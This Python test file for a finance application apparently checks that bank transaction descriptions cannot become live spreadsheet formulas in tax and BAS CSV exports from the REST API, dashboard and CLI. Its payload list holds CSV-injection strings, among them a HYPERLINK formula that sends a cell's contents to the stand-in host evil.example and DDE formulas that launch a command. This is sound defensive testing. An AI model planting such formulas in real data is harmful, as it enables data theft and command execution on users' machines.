"""Issue 23 point 6 against real uvicorn: descriptions from bank files that a spreadsheet would run as
formulas reach no CSV finkit writes as live formulas (tax summary and BAS, REST ``format=csv`` and the
dashboard's downloads, and the CLI's ``--csv``); plain negative amounts stay numbers."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from typer.testing import CliRunner

from finkit.cli.main import app as cli_app
from finkit.core.csv_export import FORMULA_STARTS, safe_cell
from finkit.core.db.engine import Database
from finkit.core.settings import Settings
from finkit.server.app import create_app
from finkit.session import Finkit
from tests.loopback import serve

pytestmark = pytest.mark.slow
PASSWORD = "Sup3r-secret!"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _live_formula(cell: str) -> bool:
    """Whether a spreadsheet would evaluate ``cell``: it begins like a formula and is not a number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.fixture
def base(database: Database, settings: Settings) -> Iterator[str]:
    with serve(create_app(Finkit(settings, database=database))) as url:
        yield url


def test_no_csv_export_holds_a_live_formula(base: str, database_url: str, tmp_path: Path) -> None:
    email = f"csv-{uuid.uuid4().hex[:8]}@example.com"
    with httpx.Client(base_url=base, timeout=30) as http:
        signed_up = http.post(
            "/api/auth/register",
            json={"email": email, "password": PASSWORD, "firstName": "A", "lastName": "B"},
        )
        headers = {"Authorization": f"Bearer {signed_up.json()['token']}"}
        categories = {
            c["name"]: c["id"] for c in http.get("/api/categories", headers=headers).json()["categories"]
        }
        for index, payload in enumerate(PAYLOADS):
            created = http.post(
                "/api/bank/transactions",
                headers=headers,
                json={
                    "date": f"2026-06-{index + 2:02d}",
                    "description": payload,
                    "amount": "-45.50",
                    "categoryId": categories["Fuel"],
                    "isTaxDeductible": True,
                },
            )
            assert created.status_code == 201, created.text
        cookie = http.post("/api/auth/login", json={"email": email, "password": PASSWORD, "cookie": True})
        web = httpx.Client(base_url=base, cookies=cookie.cookies, timeout=30)
        downloads = {
            "rest tax": http.get("/api/reports/tax?fy=2026&format=csv", headers=headers),
            "rest bas": http.get("/api/reports/bas?quarter=2026Q2&format=csv", headers=headers),
            "web tax": web.get("/tax/summary.csv?fy=2026"),
            "web bas": web.get("/tax/bas.csv?quarter=2026Q2"),
        }
    texts = {}
    for name, response in downloads.items():
        assert response.status_code == 200, (name, response.text)
        texts[name] = response.text
    runner = CliRunner()
    for name, command in {"cli tax": ["report", "tax", "--fy", "2026"], "cli bas": ["report", "bas"]}.items():
        target = tmp_path / f"{name.replace(' ', '-')}.csv"
        result = runner.invoke(
            cli_app, ["--database", database_url, "--user", email, *command, "--csv", str(target)]
        )
        if result.exit_code == 0 and target.exists():
            texts[name] = target.read_text(encoding="utf-8")
    assert {"cli tax"} <= set(texts), "the CLI's tax CSV was not written"
    for name, text in texts.items():
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        live = [cell for cell in cells if _live_formula(cell)]
        assert not live, (name, live)
    summary_rows = list(csv.reader(io.StringIO(texts["rest tax"], newline="")))
    deductions = [row for row in summary_rows if row[0] == "deduction"]
    assert len(deductions) == len(PAYLOADS)
    assert all(row[5].startswith("'") for row in deductions)  # shown as text (tab/CR are trimmed on input)
    assert {row[6] for row in deductions} == {"-45.50"}  # money stays a number


@pytest.mark.parametrize(
    ("value", "written"),
    [("-45.50", "-45.50"), ("-12", "-12"), ("-2+3", "'-2+3"), ("=1", "'=1"), ("plain", "plain"), (None, "")],
)
def test_safe_cell(value: object, written: str) -> None:
    assert safe_cell(value) == written
